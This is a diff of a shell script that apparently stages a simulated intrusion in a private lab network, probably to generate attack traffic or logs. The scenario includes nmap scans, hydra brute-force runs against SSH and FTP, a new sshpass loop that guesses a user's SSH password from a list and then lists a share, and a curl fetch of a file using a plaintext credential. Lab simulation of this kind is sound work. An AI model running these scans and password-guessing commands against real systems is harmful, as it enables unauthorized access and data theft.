@@ -74,9 +74,18 @@ kiosk_day() {
   until_s 62; on $n $scan -sV -n -Pn --version-intensity 3 -p 1883,5432,6379 192.168.10.11-12
   until_s 72; on $n $scan -sU -n -Pn -p 53,67,123,137,161,500,1900,5353 192.168.10.1 192.168.10.20
   until_s 80; on $n $scan -O -n -Pn -p 21,22,23 192.168.10.10
-  until_s 90; at $n timeout 50 hydra -I -t 4 -l ben -P $lab/passwords ssh://192.168.10.10 >>$lab/log/$n 2>&1 </dev/null || true
-  until_s 132; at $n timeout 20 hydra -I -t 4 -l ana -P $lab/passwords ftp://192.168.10.10 >>$lab/log/$n 2>&1 </dev/null || true
+  until_s 90; guess_over_ssh
+  until_s 132; at $n sh -c "cd /tmp && timeout 12 hydra -I -t 4 -l ana -P $lab/passwords ftp://192.168.10.10" >>$lab/log/$n 2>&1 </dev/null || true
   until_s 146; on $n curl -sS -u ben:ben-likes-tea-4 -o /dev/null 'ftp://192.168.10.10//srv/share/budget.csv'
+}
+
+# One connection a password, as guessing programs do, until one is let in.
+guess_over_ssh() {
+  local password
+  while read -r password; do
+    at kiosk timeout 5 sshpass -p "$password" ssh -4 -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no ben@192.168.10.10 'id; ls -l /srv/share' \
+      >>$lab/log/kiosk 2>&1 </dev/null && break
+  done <$lab/passwords
 }
 
 record() {
